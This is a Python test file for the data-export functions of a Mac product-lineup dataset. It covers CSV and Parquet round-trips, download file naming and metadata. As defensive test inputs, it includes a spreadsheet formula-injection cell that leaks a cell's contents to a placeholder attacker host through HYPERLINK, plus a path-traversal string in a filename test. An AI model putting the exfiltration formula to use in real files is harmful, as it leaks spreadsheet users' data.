"""The downloaded table equals the shown table; Parquet carries the dataset's provenance."""

from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest

from maclineup.export import (
    column_label,
    download_stem,
    make_downloads,
    make_full_table,
    make_metadata,
    make_table,
    neutralise_formulas,
    read_parquet_metadata,
    split_source_columns,
    table_columns,
    table_to_csv,
    table_to_parquet,
)
from maclineup.loading import load_dataset
from maclineup.paths import DEFAULT_DATA_DIR
from maclineup.selection import make_view_frame
from maclineup.viewstate import default_state, make_options
from tests.fixtures import make_data_dir


@pytest.fixture
def table(tmp_path: Path) -> pd.DataFrame:
    ds = load_dataset(make_data_dir(tmp_path))
    state = default_state(make_options(ds.models, [1984, 2024]))
    return make_table(make_view_frame(ds.models, ds.cpi, state), 2024)


def test_table_has_catalogue_and_derived_columns_with_units(table: pd.DataFrame) -> None:
    assert list(table.columns) == table_columns()
    assert {"price_real_usd", "price_max_real_usd", "cpi_base_year", "cpu_throughput_ghz", "price_source"} <= set(table.columns)
    assert column_label("price_usd") == "Launch price (US$ (nominal))"
    assert column_label("cpu_throughput_ghz") == "CPU cores × clock (cores × GHz)"
    assert table_columns()[:5] == ["name", "family", "announced", "released", "price_usd"], "the key columns come first"
    assert all(column_label(c) != c for c in table_columns()), "every header is in words"


@pytest.mark.parametrize(
    ("query", "stem"),
    [
        ({}, "mac-lineup-0.1.0"),
        ({"family": ["Mac mini"], "price": ["nominal"]}, "mac-lineup-0.1.0-family-mac-mini-nominal"),
        ({"years": ["1998", "2010"], "arch": ["PowerPC", "Intel"], "view": ["data"]}, "mac-lineup-0.1.0-arch-powerpc-intel-years-1998-2010"),
        ({"family": ["<b>x</b>/../etc"]}, "mac-lineup-0.1.0-family-b-x-b-etc"),
        ({"base_year": ["2010"]}, "mac-lineup-0.1.0-base-year-2010"),
    ],
)
def test_download_file_names_say_what_was_filtered(query: dict[str, list[str]], stem: str) -> None:
    assert download_stem("0.1.0", query) == stem


def test_csv_download_equals_the_table(table: pd.DataFrame) -> None:
    back = pd.read_csv(io.BytesIO(table_to_csv(table)))
    assert list(back.columns) == list(table.columns)
    assert back["model_id"].tolist() == table["model_id"].tolist()
    assert back["announced"].tolist() == table["announced"].dt.strftime("%Y-%m-%d").tolist()
    pd.testing.assert_series_equal(back["price_real_usd"], table["price_real_usd"], check_names=False)


def test_parquet_download_equals_the_table_and_carries_metadata(table: pd.DataFrame) -> None:
    meta = {"dataset_version": "test-1", "sources": [{"title": "x"}], "view": {"family": ["iMac"]}}
    data = table_to_parquet(table, meta)
    back = pd.read_parquet(io.BytesIO(data))
    assert back["model_id"].tolist() == table["model_id"].tolist()
    assert back["price_usd"].tolist() == table["price_usd"].tolist()
    assert read_parquet_metadata(data) == meta


def test_downloads_offer_this_table_the_full_catalogue_and_metadata(tmp_path: Path, table: pd.DataFrame) -> None:
    ds = load_dataset(make_data_dir(tmp_path / "d"))
    full = make_full_table(ds.models, ds.cpi, 2024)
    assert list(full.columns) == list(table.columns)
    assert len(full) == len(ds.models)
    meta = make_metadata({"version": "test-1", "title": "T", "sources": [{"title": "s"}]}, {"form": ["laptop"]}, 2024)
    assert meta["dataset_version"] == "test-1" and meta["view"] == {"form": ["laptop"]} and meta["cpi_base_year"] == 2024
    downloads = {d.key: d for d in make_downloads(table.iloc[:2], lambda: full, meta, "stem")}
    assert downloads["download_csv"].data == table_to_csv(table.iloc[:2])
    full_csv = downloads["download_full_csv"].data
    assert callable(full_csv) and full_csv() == table_to_csv(full)
    parquet = downloads["download_parquet"].data
    assert callable(parquet) and read_parquet_metadata(parquet()) == meta
    metadata = downloads["download_metadata"].data
    assert callable(metadata) and json.loads(metadata())["dataset_version"] == "test-1"
    assert downloads["download_full_csv"].file_name == "stem-full.csv"


def test_each_address_of_a_source_cell_becomes_its_own_link_column() -> None:
    table = pd.DataFrame({"model_id": ["a", "b"], "price_source": ["https://a.org/1; https://b.org/2", "https://c.org/3"], "notes": ["x", "y"]})
    shown = split_source_columns(table)
    assert list(shown.columns) == ["model_id", "price_source", "price_source_2", "notes"]
    assert shown["price_source"].tolist() == ["https://a.org/1", "https://c.org/3"]
    assert shown.at[0, "price_source_2"] == "https://b.org/2" and pd.isna(shown.at[1, "price_source_2"])
    assert column_label("price_source_2") == "Price source 2"
    assert table["price_source"].iloc[0].count("https://") == 2  # the downloaded table keeps the whole cell


def test_the_csv_never_writes_scientific_notation() -> None:
    ds = load_dataset(DEFAULT_DATA_DIR)
    text = table_to_csv(make_full_table(ds.models, ds.cpi, 2024)).decode("utf-8")
    assert not re.search(r"(?<![\w.])-?\d+(?:\.\d+)?[eE][+-]?\d+(?![\w])", text)


@pytest.mark.parametrize("cell", ['=HYPERLINK("https://evil.example/?leak="&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_that_would_run_as_formulas_are_neutralised(cell: str) -> None:
    table = pd.DataFrame({"name": [cell, "iMac"], "price_usd": [-5.0, 1299.0]})
    safe = neutralise_formulas(table)
    assert safe.at[0, "name"] == "'" + cell and safe.at[1, "name"] == "iMac"
    assert safe.at[0, "price_usd"] == -5.0, "numbers stay numbers"
    if cell.isprintable():
        back = pd.read_csv(io.BytesIO(table_to_csv(table)), keep_default_na=False)
        assert back.at[0, "name"] == "'" + cell
